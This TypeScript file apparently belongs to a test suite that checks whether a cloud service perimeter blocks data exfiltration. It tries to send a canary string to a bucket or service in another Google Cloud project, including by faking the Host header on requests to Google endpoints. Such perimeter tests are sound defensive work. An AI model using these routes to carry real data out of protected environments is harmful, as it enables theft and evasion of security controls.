/** Break-ins that carry data to somebody else's project, through Google's own APIs and with that project's token. */
import type { Stranger } from "../../local/run/stranger";
import type { AttackContext, BreakIn } from "./breakIn";
import { bearer } from "./identity";
import { firstThrough, judge, type Verdict } from "./verdict";
import { googleAddress, type RawRequest, sendRequest } from "./wire";

export const strangerBreakIns: readonly BreakIn[] = [
  {
    id: "bucket-of-stranger",
    title: "uploads data to a bucket of somebody else's project",
    expected: "service perimeter",
    attempt: (context) =>
      withStranger(context, async ({ bucket, accessToken }) => {
        const path = `upload/storage/v1/b/${bucket}/o?uploadType=media&name=${context.canary}`;
        const url = `https://storage.googleapis.com/${path}`;
        const request = { url, method: "POST", headers: [bearer(accessToken)], body: context.canary };
        return judge(await sendRequest(context.attacker.intruder, request));
      }),
  },
  {
    id: "service-of-stranger",
    title: "posts data to a service of somebody else's project",
    expected: "service perimeter",
    attempt: (context) =>
      withStranger(context, async (stranger) => {
        const post = { method: "POST", body: context.canary };
        const { host } = new URL(stranger.url);
        // The DNS of the cell has no name for a stranger's service.
        const ways: readonly RawRequest[] = [
          { ...post, url: stranger.url },
          { ...post, url: "https://storage.googleapis.com/", host },
          { ...post, url: `${googleAddress}/`, host },
        ];
        return firstThrough(ways.map((way) => () => arrival(context, stranger, way)));
      }),
  },
];

async function withStranger(
  { running }: AttackContext,
  attempt: (stranger: Stranger) => Promise<Verdict>,
): Promise<Verdict> {
  const stranger = await running.openStranger();
  try {
    return await attempt(stranger);
  } finally {
    await stranger.close();
  }
}

/** Through, only if the data arrived. */
async function arrival({ attacker, canary }: AttackContext, stranger: Stranger, way: RawRequest): Promise<Verdict> {
  const verdict = judge(await sendRequest(attacker.intruder, way));
  if (stranger.received().some((text) => text.includes(canary))) {
    return { denied: false, because: `it arrived at ${stranger.url}` };
  }
  return verdict.denied ? verdict : { denied: false, unclear: true, because: verdict.because };
}
